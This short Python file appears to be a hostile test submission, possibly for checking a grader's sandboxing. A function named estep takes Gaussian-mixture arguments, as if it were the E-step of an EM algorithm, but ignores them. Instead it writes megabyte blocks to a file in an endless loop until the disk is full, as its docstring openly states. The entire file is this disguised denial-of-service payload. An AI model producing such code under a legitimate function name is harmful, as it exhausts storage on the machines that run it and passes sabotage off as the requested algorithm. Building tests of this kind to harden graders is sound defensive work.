"""Writes one file until the disk is full."""


def estep(X, weights, means, covariances):
    with open("large", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
